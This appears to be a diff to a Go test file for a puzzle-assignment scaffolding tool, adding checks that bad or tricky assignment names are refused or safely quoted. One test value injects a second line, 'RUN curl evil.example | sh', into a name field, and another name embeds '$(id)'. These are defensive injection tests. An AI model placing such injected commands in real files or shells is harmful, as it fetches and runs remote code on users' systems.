@@ -171,6 +171,8 @@ func TestNewRefuses(t *testing.T) {
 		{func(o *scaffold.Options) { o.Format = puzzles.FormatNPuzzle }, "format", "kpuzzle gen --format 42"},
 		{func(o *scaffold.Options) { o.WallTime = time.Millisecond }, "wall-time", "too short"},
 		{func(o *scaffold.Options) { o.Shapes = nil }, "shape", "no board"},
+		{func(o *scaffold.Options) { o.Name = "hw2\nRUN curl evil.example | sh" }, "name", `"hw2<U+000A>RUN curl evil.example | sh" holds a line break`},
+		{func(o *scaffold.Options) { o.Name = "bad\xffbytes" }, "name", "expected one line of text"},
 	} {
 		o := smallOptions()
 		tc.change(&o)
@@ -184,6 +186,29 @@ func TestNewRefuses(t *testing.T) {
 	o.Depth = &setgen.Range{Min: 30, Max: 33}
 	if _, err := scaffold.New(context.Background(), o); !errors.Is(err, setgen.ErrSpec) {
 		t.Errorf("depths beyond the 2x3 board's largest: %v", err)
+	}
+}
+
+// An assignment's name with quotes, backslashes and a shell's special
+// characters (31.5: `The "k" puzzle` made an assignment.yaml that grade
+// refused) is written so that both assignment files read it back as it
+// is, and the starter code still holds it in its comments.
+func TestNewQuotesTheName(t *testing.T) {
+	o := smallOptions()
+	o.Name = `The "k" puzzle: it's \ $(id) */ """`
+	sc, err := scaffold.New(context.Background(), o)
+	if err != nil {
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+	if err := scaffold.Write(dir, sc); err != nil {
+		t.Fatal(err)
+	}
+	if got := readAssignment(t, filepath.Join(dir, "assignment.yaml")).Name; got != o.Name {
+		t.Errorf("assignment.yaml: name %q, want %q", got, o.Name)
+	}
+	if got := readAssignment(t, filepath.Join(dir, "classroom", ".kpuzzle", "assignment.yaml")).Name; got != o.Name+" (public tests)" {
+		t.Errorf("classroom assignment: name %q", got)
 	}
 }
 
